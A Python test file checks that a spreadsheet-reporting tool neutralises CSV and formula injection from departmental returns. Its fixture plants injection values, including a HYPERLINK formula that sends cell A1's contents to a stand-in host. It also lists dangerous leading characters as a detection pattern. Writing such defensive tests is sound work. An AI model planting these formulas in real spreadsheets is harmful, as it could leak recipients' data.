"""Text from a department's return never becomes a live formula in anything govxl writes (issue 19.4)."""

from __future__ import annotations

import csv
import random
import re
import zipfile
from pathlib import Path

import pytest

from govxl.editions import edition_by_id
from govxl.excel.template_book import build_template
from govxl.synth import consistent_values
from tests.apps.test_cli import run

NEW = edition_by_id("2021")
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
UNIT = "=1+1局"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Two returns: one whose 填报单位 is “=1+1局”, one with a HYPERLINK formula typed as text in a cell,
    and a negative figure (a number, which stays a number)."""
    folder = tmp_path / "收件"
    folder.mkdir()
    build_template(folder / "甲.xlsx", NEW, 2021, unit=UNIT, values=consistent_values(NEW, random.Random(1)))
    values = dict(consistent_values(NEW, random.Random(2)))
    values["t2.regulations.issued"] = LINK
    values["t2.normative.issued"] = "+5-2"
    values["t2.fees.amount"] = -3
    build_template(folder / "乙.xlsx", NEW, 2021, unit="乙局", values=values)
    return folder


def _formulas(xlsx: Path) -> list[str]:
    with zipfile.ZipFile(xlsx) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    return [f for xml in sheets for f in re.findall(r"<f[^>]*>([^<]*)</f>", xml)]


def test_export_xlsx_writes_no_formula_from_a_return(hostile: Path, tmp_path: Path, capsys, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import pandas as pd

    out = tmp_path / "数据.xlsx"
    assert run(capsys, monkeypatch, "export", str(hostile), "-o", str(out))[0] in (0, 1)
    assert _formulas(out) == []
    data = pd.read_excel(out, sheet_name="数据", engine="calamine")
    assert UNIT in set(data["填报单位"]) and LINK in set(data["填写内容"])  # the text itself, as typed


def test_export_csv_neutralises_text_fields_only(hostile: Path, tmp_path: Path, capsys, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "数据.csv"
    assert run(capsys, monkeypatch, "export", str(hostile), "-o", str(out))[0] in (0, 1)
    for path in (out, tmp_path / "数据_校验结果.csv"):
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        fields = [v for row in rows for v in row]
        dangerous = [v for v in fields if v[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-[^\d.]", v)]
        assert dangerous == [], path.name
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["填报单位"] for r in rows} == {"'" + UNIT, "乙局"}
    shown = {r["单元格代码"]: r for r in rows if r["填报单位"] == "乙局"}
    assert shown["t2.regulations.issued"]["填写内容"] == "'" + LINK
    assert shown["t2.normative.issued"]["填写内容"] == "'+5-2"
    assert shown["t2.fees.amount"]["填写内容"] == "-3"  # a number as typed (wrong here, but no formula) stays as it is


@pytest.mark.parametrize("suffix", [".docx", ".html", ".md"])
def test_a_report_writes_the_unit_name_as_text(hostile: Path, tmp_path: Path, suffix: str, capsys, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / f"年报{suffix}"
    assert run(capsys, monkeypatch, "report", str(hostile / "甲.xlsx"), "-o", str(out))[0] in (0, 1)
    if suffix == ".docx":
        with zipfile.ZipFile(out) as zf:
            body = zf.read("word/document.xml").decode()
        assert "fldSimple" not in body and "instrText" not in body and f"<w:t>填报单位：{UNIT}</w:t>" in body
    else:
        assert UNIT in out.read_text(encoding="utf-8")


def test_merged_and_history_keep_it_text(hostile: Path, tmp_path: Path, capsys, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "汇总.xlsx"
    assert run(capsys, monkeypatch, "merge", str(hostile), "-o", str(out), "-n", "区")[0] in (0, 1)
    assert not [f for f in _formulas(out) if "HYPERLINK" in f or "1+1局" in f]
